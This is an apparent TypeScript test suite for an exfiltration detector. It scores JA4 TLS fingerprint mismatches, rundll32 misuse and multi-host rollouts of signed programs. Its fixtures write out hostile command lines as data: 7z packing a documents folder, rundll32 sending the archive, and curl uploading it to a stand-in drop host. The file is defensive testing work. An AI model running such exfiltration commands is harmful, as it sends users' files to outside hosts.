import { describe, expect, it } from 'vitest';
import type { EndpointEvent, ProcessRef } from '../../enrich/event/endpoint-event.ts';
import { ja4Family } from '../../enrich/evidence/ja4-family.ts';
import { JA4_FAMILIES } from '../../enrich/evidence/ja4-table.ts';
import type { FlowRecord } from '../../sensor/record/flow-record.ts';
import {
  alertsAfter,
  archive,
  connection,
  flow,
  history,
  MINUTE,
  MORNING,
  onHost,
  program,
  SECOND,
  start,
  type Theft,
} from '../join/world.ts';

const GO = 't13d190900_9dc949149365_97f8aa674fd9';
const CHROMIUM = 't13d1516h2_8daaf6152771_cb7bf5808d99';
const GNUTLS = 't13d301000_723694b0fccc_899037bd0b8c';

interface Body {
  readonly waybill: {
    readonly score_db: number;
    readonly terms: readonly { readonly name: string; readonly db: number; readonly detail: string }[];
  };
}
const termsOf = (body: unknown): readonly string[] => (body as Body).waybill.terms.map((term) => term.name);

/** An archive packed and sent by one program in a minute. */
function upload(process: ProcessRef, ja4: string | undefined): Theft {
  const packer = program('packer', 'C:\\Users\\ann\\AppData\\Local\\Temp\\7z.exe', {
    commandLine: '7z a C:\\Users\\Public\\q.7z C:\\docs',
  });
  const sent = flow(MORNING + MINUTE, {
    port: 52_000,
    sent: 8_020_000,
    received: 3_000,
    seconds: 20,
    ...(ja4 ? { ja4 } : {}),
  });
  return {
    flows: [sent],
    events: [
      start(MORNING - 20 * SECOND, packer),
      archive(MORNING, packer, 'C:\\Users\\Public\\q.7z', 8_000_000),
      start(MORNING + 50 * SECOND, process),
      connection(MORNING + MINUTE + SECOND, process, sent),
    ],
  };
}

const all = (...parts: readonly Theft[]): (FlowRecord | EndpointEvent)[] =>
  parts.flatMap((p) => [...p.flows, ...p.events]);
const chrome = program('chrome', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', {
  signer: 'Google LLC',
  signatureStatus: 'valid',
  originalName: 'chrome.exe',
});
const tool = program('tool', 'C:\\Tools\\report.exe', { commandLine: 'report.exe C:\\Users\\Public\\q.7z' });

describe('the table of fingerprints', () => {
  it('knows a library by ciphers and extensions, whatever name and protocol were asked for', () => {
    expect(JA4_FAMILIES.size).toBeGreaterThan(10);
    expect(ja4Family(GO)).toBe('go');
    expect(ja4Family(GO.replace('t13d', 't13i'))).toBe('go');
    expect(ja4Family('t13d000000_000000000000_000000000000')).toBeUndefined();
    expect(ja4Family(undefined)).toBeUndefined();
  });
});

describe('a handshake', () => {
  it('of a browser’s own library leaves the browser silent, one of another library does not', async () => {
    expect(await alertsAfter([all(upload(chrome, CHROMIUM))])).toEqual([]);
    expect(await alertsAfter([all(upload(chrome, undefined))])).toEqual([]);
    const [alert] = await alertsAfter([all(upload(chrome, GO))]);
    expect(termsOf(alert?.body)).toContain('ja4_mismatch');
    expect(termsOf(alert?.body)).not.toContain('masquerade');
  });

  it('of another library than this program ever used counts, after a week of its history', async () => {
    const usual = (days: number): Theft => history(days, { ...tool, entityId: 'tool-before' }, { ja4: GNUTLS });
    const [odd] = await alertsAfter([all(usual(8), upload(tool, GO))]);
    expect(termsOf(odd?.body)).toContain('ja4_mismatch');
    const [young] = await alertsAfter([all(usual(5), upload(tool, GO))]);
    expect(termsOf(young?.body)).not.toContain('ja4_mismatch');
  });

  it('of a library that Windows does not have, from a program of Windows, is an injection', async () => {
    const rundll = program('rundll', 'C:\\Windows\\System32\\rundll32.exe', {
      signatureStatus: 'valid',
      signer: 'Microsoft Windows',
      commandLine: 'rundll32.exe x.dll,Send C:\\Users\\Public\\q.7z',
    });
    const [odd] = await alertsAfter([all(upload(rundll, GO))]);
    expect(termsOf(odd?.body)).toContain('ja4_mismatch');
    const elsewhere = { ...rundll, image: 'C:\\Program Files\\App\\windows\\system32\\bin\\app.exe' };
    for (const [process, ja4] of [
      [rundll, undefined],
      [rundll, CHROMIUM],
      [elsewhere, GO],
    ] as const) {
      const [alert] = await alertsAfter([all(upload(process, ja4))]);
      expect(termsOf(alert?.body)).not.toContain('ja4_mismatch');
    }
  });

  it('that agrees proves nothing: it weighs the same as none', async () => {
    const usual = history(8, { ...tool, entityId: 'tool-before' }, { ja4: GNUTLS });
    const [same] = await alertsAfter([all(usual, upload(tool, GNUTLS))]);
    const [none] = await alertsAfter([all(usual, upload(tool, undefined))]);
    expect((same!.body as Body).waybill.score_db).toBe((none!.body as Body).waybill.score_db);
  });
});

describe('a new destination of one signed program', () => {
  const signed = { signer: 'Example Backup GmbH', signatureStatus: 'valid' } as const;
  const backup = program('backup', 'C:\\Program Files\\Backup\\backup.exe', {
    ...signed,
    commandLine: 'backup.exe C:\\Users\\Public\\q.7z',
  });
  const before = history(14, program('news', 'C:\\Tools\\news.exe'));
  const hosts = (count: number, process: ProcessRef): Theft[] =>
    Array.from({ length: count }, (_, n) => [onHost(n, before), onHost(n, upload(process, undefined))]).flat();
  const dbOf = (body: unknown): number | undefined =>
    (body as Body).waybill.terms.find((t) => t.name === 'rollout')?.db;

  it('is a rollout when three hosts meet it on one day, and weighs twelve decibels less', async () => {
    const two = await alertsAfter([all(...hosts(2, backup))]);
    expect(two.map(({ body }) => dbOf(body))).toEqual([undefined, undefined]);
    const three = await alertsAfter([all(...hosts(3, backup))]);
    expect(three.map(({ body }) => dbOf(body))).toEqual([-12, -12, -12]);
  });

  it('is judged on every host as on the last one, in whatever order they come', async () => {
    const parts = hosts(3, backup);
    const whole = await alertsAfter([all(...parts)]);
    const apart = await alertsAfter([0, 1, 2].map((n) => all(parts[2 * n]!, parts[2 * n + 1]!)));
    const back = await alertsAfter([2, 1, 0].map((n) => all(parts[2 * n]!, parts[2 * n + 1]!)));
    expect(apart).toEqual(whole);
    expect(back).toEqual(whole);
  });

  it('is none for unsigned programs, and none for signed tools that send whatever they are told to', async () => {
    const unsigned = { ...backup, signatureStatus: 'unsigned' } as const;
    const curl = program('curl', 'C:\\Windows\\System32\\curl.exe', {
      signer: 'Microsoft Windows',
      signatureStatus: 'valid',
      commandLine: 'curl.exe -T C:\\Users\\Public\\q.7z https://drop.example.net/',
    });
    for (const process of [unsigned, curl]) {
      const alerts = await alertsAfter([all(...hosts(4, process))]);
      expect(alerts.length).toBe(4);
      expect(alerts.map(({ body }) => dbOf(body))).toEqual([undefined, undefined, undefined, undefined]);
    }
  });
});
